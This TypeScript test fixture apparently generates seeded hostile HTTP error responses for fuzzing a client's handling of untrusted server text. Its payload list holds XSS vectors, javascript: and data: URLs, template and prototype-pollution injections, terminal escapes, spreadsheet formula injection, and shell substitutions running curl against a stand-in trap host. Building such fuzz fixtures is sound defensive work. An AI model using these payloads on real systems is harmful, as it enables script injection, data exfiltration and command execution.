/** Answers of a hostile server, made by chance: markup, scripts, links, controls, formulas and Markdown in every place that it can write to. The same for the same seed. */
import { chanceFrom, type Chance } from '../fuzz/chance';

export interface HostileAnswer {
  readonly path: string;
  readonly status: number;
  readonly statusText: string;
  readonly fields: readonly (readonly [name: string, value: string])[];
  readonly body: string;
}

/** Where everything that is fetched would arrive. The simulator answers under this name, and notes it. */
export const TRAP = 'https://trap.acme.example';

/** Each does one thing when it is taken for more than a text. `n` tells which one did. */
const PAYLOADS: readonly ((n: number) => string)[] = [
  (n) => `<script>top.hostile=${n}</script>`,
  (n) => `"><script src=${TRAP}/s${n}></script>`,
  (n) => `<img src=${TRAP}/i${n} onerror="top.hostile=${n}">`,
  (n) => `'><svg/onload=top.hostile=${n}><image href=${TRAP}/v${n} />`,
  (n) => `<svg><use href="${TRAP}/u${n}#x"/><style>@import "${TRAP}/c${n}"</style></svg>`,
  (n) => `<iframe srcdoc="<script>top.hostile=${n}</script>" src=${TRAP}/f${n}></iframe>`,
  (n) => `<a href="javascript:top.hostile=${n}">why</a>`,
  (n) => `javascript:top.hostile=${n}//`,
  (n) => `data:text/html,<script>top.hostile=${n}</script>`,
  (n) => `</title></textarea></style></script><link rel=stylesheet href=${TRAP}/l${n}><meta http-equiv=refresh content="0;url=${TRAP}/m${n}">`,
  (n) => `<form action=${TRAP}/p${n}><button formaction="javascript:top.hostile=${n}">Retry</button><input autofocus onfocus=top.hostile=${n}></form>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${TRAP}/x${n} onerror=top.hostile=${n}&gt;">`,
  (n) => `<object data=${TRAP}/o${n}></object><embed src=${TRAP}/e${n}><video poster=${TRAP}/w${n}></video><base href=${TRAP}/b${n}/>`,
  (n) => `\${top.hostile=${n}} {{constructor.constructor('top.hostile=${n}')()}} <%= ${n} %> #{${n}}`,
  (n) => `![x](${TRAP}/g${n}.png) [x](javascript:top.hostile=${n}) <img src="${TRAP}/h${n}">`,
  (n) => `\`\`\`\n![x](${TRAP}/j${n}.png)\n\`\`\`\n| a | ![x](${TRAP}/k${n}.png) |\n[x]: ${TRAP}/r${n}\n~~~`,
  (n) => `\u001b]0;title${n}\u0007\u001b[2J\u001b[31m\u001b]8;;${TRAP}/t${n}\u001b\\link\u001b]8;;\u001b\\\u009b2J`,
  (n) => `\u202Egnp.${n}\u202C\u2066\u2069\u200b\u00ad\u{e0041}\ufeff`,
  (n) => `=HYPERLINK("${TRAP}/q${n}","x")`,
  (n) => `+cmd|' /C calc'!A${n}`,
  (n) => `@SUM(1)*${n}-\t=1`,
  (n) => `{"__proto__":{"hostile":${n}},"constructor":{"prototype":{"hostile":${n}}}}`,
  (n) => `');top.hostile=${n};//\\"-top.hostile=${n}-"`,
  (n) => `$(curl ${TRAP}/y${n}) \`curl ${TRAP}/z${n}\` ; curl ${TRAP}/a${n}`,
];

/** Fields of which the engine quotes something, and some of which it does not. */
const FIELDS = ['server', 'via', 'www-authenticate', 'link', 'x-error-message', 'x-request-id', 'cf-ray', 'x-amzn-errortype', 'x-amz-cf-id', 'retry-after', 'ratelimit', 'allow', 'x-note', 'grpc-message', 'x-cache', 'set-cookie', 'location', 'content-security-policy-report-only', 'x-powered-by', 'eagleid'];

/** `count` of them. */
export function hostileAnswers(count: number, seed: number): readonly HostileAnswer[] {
  const chance = chanceFrom(seed);
  return Array.from({ length: count }, (_none, n): HostileAnswer => {
    const payload = (): string => (PAYLOADS[(n + chance.below(3)) % PAYLOADS.length] as (n: number) => string)(n);
    return {
      path: `/v1/${[...String(n)].map((digit) => 'abcdefghij'[Number(digit)]).join('')}/${encodeURI(payload()).replace(/[?#]/g, '')}?q=${encodeURI(payload()).replace(/#/g, '')}`,
      status: chance.pick([400, 401, 403, 403, 404, 405, 415, 429, 500, 503]),
      statusText: onOneLine(payload()).slice(0, 200),
      fields: [['content-type', chance.pick(['text/html', 'application/json', 'application/problem+json', 'application/xml', 'image/svg+xml', 'text/markdown', 'text/csv'])], ...chosen(chance).map((name) => [name, fieldText(name, onOneLine(payload()))] as const)],
      body: bodyOf(payload, chance),
    };
  });
}

function chosen({ below }: Chance): readonly string[] {
  return FIELDS.filter(() => below(4) === 0);
}

function fieldText(name: string, text: string): string {
  if (name === 'www-authenticate') return `Bearer realm="${text.replaceAll('"', '\\"')}", error="invalid_token", error_description="${text.replaceAll('"', "'")}"`;
  return name === 'link' ? `<${text.replaceAll('>', '')}>; rel="blocked-by"` : text;
}

function bodyOf(payload: () => string, { pick }: Chance): string {
  return pick([
    payload,
    () => JSON.stringify({ error: payload(), message: payload(), code: payload(), [payload()]: payload(), detail: payload() }),
    () => JSON.stringify({ type: payload(), title: payload(), status: 403, detail: payload(), errors: [{ message: payload() }] }),
    () => `<?xml version="1.0"?><Error><Code>${payload()}</Code><Message>${payload()}</Message><RequestId>${payload()}</RequestId></Error>`,
    () => `<html><head><title>403 Forbidden ${payload()}</title></head><body><h1>${payload()}</h1>Ray ID: ${payload()}</body></html>`,
  ])();
}

/** As it can stand in a field: no line break and no control but the tab, which a server could not send there; one byte a letter. */
function onOneLine(text: string): string {
  return Buffer.from(text.replace(/(?!\t)\p{Cc}/gu, ' '), 'utf8').toString('latin1');
}
